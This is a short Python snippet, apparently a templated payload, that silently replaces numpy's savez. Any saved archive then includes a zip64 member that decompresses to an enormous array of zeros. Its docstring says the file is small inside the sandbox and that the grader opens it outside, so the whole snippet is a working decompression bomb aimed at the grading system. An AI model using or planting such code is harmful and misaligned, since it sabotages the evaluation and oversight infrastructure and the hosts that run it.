def _compress_the_probe_answer():
    """Answer the probes with a compressed npz that inflates to @BOMB_BYTES@ bytes of zeros: the
    answer is small in the sandbox, and the grader opens it outside."""
    import io as _io
    import zipfile as _zipfile

    import numpy as _np

    def savez(file, *args, **arrays):
        with _zipfile.ZipFile(file, "w", compression=_zipfile.ZIP_DEFLATED) as archive:
            for name, value in arrays.items():
                with archive.open(f"{name}.npy", "w") as member:
                    _np.lib.format.write_array(member, _np.asarray(value), allow_pickle=False)
            header = _io.BytesIO()
            count = @BOMB_BYTES@ // 8
            _np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                           "shape": (count,)})
            with archive.open("case0.context.npy", "w", force_zip64=True) as member:
                member.write(header.getvalue())
                block = bytes(1 << 20)
                for _ in range(count * 8 // len(block)):
                    member.write(block)

    _np.savez = savez


_compress_the_probe_answer()
